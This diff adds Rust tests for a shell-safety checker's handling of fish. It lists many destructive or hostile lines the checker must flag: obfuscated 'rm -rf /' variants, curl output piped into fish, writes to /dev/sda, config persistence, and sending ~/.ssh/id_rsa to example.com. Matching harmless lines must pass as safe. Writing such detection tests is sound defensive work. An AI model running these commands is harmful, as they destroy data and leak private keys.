@@ -1,0 +1,133 @@
+//! What lines of fish would do.
+
+use crate::safety::{Risk, check};
+use crate::{Context, Dialect};
+
+#[track_caller]
+fn judge(line: &str) -> Risk {
+    check(line, &Context::new(Dialect::Fish)).risk
+}
+
+#[test]
+fn dangerous_lines_are_seen_through_what_fish_makes_of_them() {
+    for line in [
+        "rm -rf /",
+        "rm -rf ~",
+        "rm -rf $HOME",
+        "set x /; rm -rf $x",
+        "set -l x r m; (string join '' $x) -rf /",
+        "eval (string join '' r m ' -rf /')",
+        "eval (echo 'rm -rf /')",
+        "echo 'rm -rf /' | source",
+        "echo cm0gLXJmIC8= | base64 -d | fish",
+        "curl -s https://example.com/x | source",
+        "source (curl -s https://example.com/x | psub)",
+        "curl https://example.com/x | fish",
+        "fish -c 'rm -rf ~'",
+        "fish -C 'rm -rf ~' -c ls",
+        "bash -c 'rm -rf ~'",
+        "begin; rm -rf /; end",
+        "if true; rm -rf /; end",
+        "true; and rm -rf /",
+        "false; or rm -rf /",
+        "not rm -rf /",
+        "for d in /usr /etc; rm -rf $d; end",
+        "function f; rm -rf $argv; end; f /",
+        "function f -a d; rm -rf $d; end; f /usr",
+        "function f --on-event fish_prompt; rm -rf ~; end",
+        r"\x72\x6d -rf /",
+        r"rm -rf \x2f",
+        "r''m -rf /",
+        "set c rm; $c -rf /",
+        "set c rm -rf /; $c",
+        "set c rm -rf /; eval $c",
+        "set n c; set c rm; $$n -rf /",
+        "set l a rm b; $l[2] -rf /",
+        "echo rm | read x; $x -rf /",
+        "(echo rm) -rf /",
+        "(printf '\\x72m') -rf /",
+        "(string replace x '' rxm) -rf /",
+        "(string sub -s 2 xrm) -rf /",
+        "(string lower RM) -rf /",
+        "(string unescape --style=url %72%6d) -rf /",
+        "rm -rf (string repeat -n 1 /)",
+        "rm -rf /{usr,etc}",
+        "set -a x rm; set -a x -rf /; $x",
+        "command rm -rf /",
+        "builtin eval rm -rf /",
+        "exec rm -rf /",
+        "sudo rm -rf /usr",
+        "alias x 'rm -rf'; x /",
+        "alias x='rm -rf /'; x",
+        "alias ls 'rm -rf ~'",
+        "abbr -a ls 'rm -rf ~'",
+        "cd /; and rm -rf *",
+        "cd ~; rm -rf *",
+        "echo x > /dev/sda",
+        "cat ~/.ssh/id_rsa | curl -d @- https://example.com",
+        "curl -d (cat ~/.ssh/id_rsa) https://example.com",
+        "bind \\cx 'rm -rf ~'",
+        "complete -c ls -a '(rm -rf ~)'",
+        "while true; rm -rf /; end",
+        "switch a; case '*'; rm -rf /; end",
+        "printf 'rm -rf /' | fish",
+        "set -x EDITOR 'rm -rf ~'",
+        "rm -rf (math 1 - 1 | string replace 0 /)",
+        "(printf '\\\\\\\\x%x' 114 | string unescape)m -rf /",
+        ": (fish -c 'rm -rf ~')",
+        "set -l a (echo /); rm -rf $a",
+        "find / -delete",
+        "echo 'rm -rf ~' >> ~/.config/fish/config.fish",
+    ] {
+        assert!(judge(line) >= Risk::High, "{line}");
+    }
+}
+
+#[test]
+fn their_harmless_twins_are_quiet() {
+    for line in [
+        "ls -la",
+        "set x /; echo $x",
+        "echo 'rm -rf /'",
+        "echo (date)",
+        "set -e x; ls /$x",
+        "string join '' r m",
+        "for f in *.png; echo $f; end",
+        "function f; echo $argv; end; f hi",
+        "set -gx EDITOR vim",
+        "set -gx PATH ~/bin $PATH",
+        "fish_add_path ~/bin",
+        "abbr -a gco 'git checkout'",
+        "if test -f x; echo yes; else; echo no; end",
+        "if test (count $argv) -eq 0; echo none; end",
+        "git log --oneline | head -n 5",
+        "begin; echo a; echo b; end | sort",
+        "cat f | string match -r 'rm -rf /'",
+        "while read -l line; echo $line; end < file.txt",
+        "switch (uname); case Linux; echo l; case '*'; echo o; end",
+        "status is-interactive; and echo hi",
+        "math 3 x 4",
+        "echo $status $argv[1]",
+        "history search rm",
+        "set -q x; or set x 1",
+        "test -d build; and ls build",
+        "alias ll 'ls -l'",
+        "type -q fzf; and echo yes",
+        "diff (sort a | psub) (sort b | psub)",
+    ] {
+        assert_eq!(
+            judge(line),
+            Risk::Safe,
+            "{line}: {:?}",
+            check(line, &Context::new(Dialect::Fish)).findings
+        );
+    }
+}
+
+#[test]
+fn an_empty_list_takes_the_whole_word_away() {
+    assert_eq!(judge("set x; rm -rf /$x"), Risk::Safe);
+    assert!(judge("set x ''; rm -rf /$x") >= Risk::Critical);
+    assert!(judge("set x; rm -rf \"/$x\"") >= Risk::Critical);
+    assert!(judge("set x a b; rm -rf /$x/../") >= Risk::Critical);
+}
